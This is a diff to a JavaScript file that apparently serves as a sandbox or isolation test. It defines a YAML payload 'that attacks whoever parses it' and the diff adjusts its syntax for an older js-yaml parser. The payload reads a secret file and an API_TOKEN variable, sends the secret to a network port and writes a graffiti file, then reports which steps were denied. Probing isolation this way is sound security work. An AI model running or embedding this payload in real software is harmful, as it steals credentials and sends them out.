@@ -1,7 +1,8 @@
 // A YAML document that attacks whoever parses it.
 
 /**
- * What the document does as soon as it is parsed. It is sent as text, and knows nothing but what it finds.
+ * What the document does as soon as it is parsed. It is sent as text, and knows nothing but what it finds. js-yaml looks at it with a
+ * parser of 2017, hence no newer syntax.
  *
  * @param {string} secretPath @param {number} port @param {string} graffitiPath
  */
@@ -14,7 +15,8 @@ function attack(secretPath, port, graffitiPath) {
       return attempt();
     } catch (error) {
       const { code, stderr, message } = /** @type {{ code?: string, stderr?: Buffer, message: string }} */ (error);
-      return `denied: ${code ?? /E[A-Z]{4,}/.exec(String(stderr))?.[0] ?? message}`;
+      const [said = message] = /E[A-Z]{4,}/.exec(String(stderr)) || [];
+      return `denied: ${code || said}`;
     }
   };
   const secret = outcomeOf(() => readFileSync(secretPath, "utf8"));
@@ -24,9 +26,12 @@ function attack(secretPath, port, graffitiPath) {
     socket.on("error", ({ code }) => { console.error(code); process.exit(1); });`;
   return JSON.stringify({
     secret,
-    environment: process.env["API_TOKEN"] ?? "denied: not there",
-    network: outcomeOf(() => execFileSync(process.execPath, ["-e", client, secret], { stdio: "pipe" }) && "sent"),
-    graffiti: outcomeOf(() => writeFileSync(graffitiPath, "I was here") ?? "written"),
+    environment: process.env["API_TOKEN"] || "denied: not there",
+    network: outcomeOf(() => String(execFileSync(process.execPath, ["-e", client, secret], { stdio: "pipe" })) || "sent"),
+    graffiti: outcomeOf(() => {
+      writeFileSync(graffitiPath, "I was here");
+      return "written";
+    }),
   });
 }
 
